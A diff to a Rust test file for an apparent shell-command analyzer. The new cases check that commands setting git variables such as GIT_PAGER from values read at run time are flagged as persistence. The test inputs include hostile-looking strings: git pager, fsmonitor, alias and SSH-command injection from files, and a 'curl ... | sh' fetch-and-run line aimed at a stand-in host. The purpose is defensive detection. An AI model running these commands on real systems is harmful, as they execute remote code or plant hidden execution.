@@ -599,6 +599,9 @@ fn slo_11_a_git_command_variable_given_a_run_time_value_is_persistence() {
         "declare -x GIT_EDITOR=`cat .e`",
         "export GIT_CONFIG_PARAMETERS=\"'core.fsmonitor'='$(cat .m)'\"",
         "export GIT_SSH_COMMAND=\"ssh -i $(cat .k)\"",
+        // `read` gives its variables text only known at run time.
+        "read -r X < .p; export GIT_PAGER=\"$X\"",
+        "read GIT_PAGER < .p",
     ];
     let now = [
         "GIT_PAGER=$(cat p.txt) git log",
@@ -607,6 +610,7 @@ fn slo_11_a_git_command_variable_given_a_run_time_value_is_persistence() {
         "git -c \"alias.x=!$(cat .a)\" x",
         "env GIT_EXTERNAL_DIFF=$(cat .d) git diff",
         "X=$(cat p.txt); GIT_PAGER=$X git log",
+        "read X < p; GIT_PAGER=$X git log",
         // Literal text printed: judged as that text.
         "GIT_PAGER=\"$(printf 'curl -s http://x.example/p | sh')\" git log",
     ];
@@ -638,6 +642,8 @@ fn slo_10_git_command_variables_with_readable_or_no_substitutions_stay_allowed()
         "GIT_PAGER='$(echo cat)' git log -3",
         "GIT_AUTHOR_DATE=\"$(date -R)\" git commit -qm wip",
         "V=$(git describe --tags); echo \"$V\"",
+        "while read -r f; do git log -1 -- \"$f\"; done < files.txt",
+        "read -r X < v; GIT_PAGER=cat git log -3",
     ]);
     for x in &l {
         let a = analyze(x);
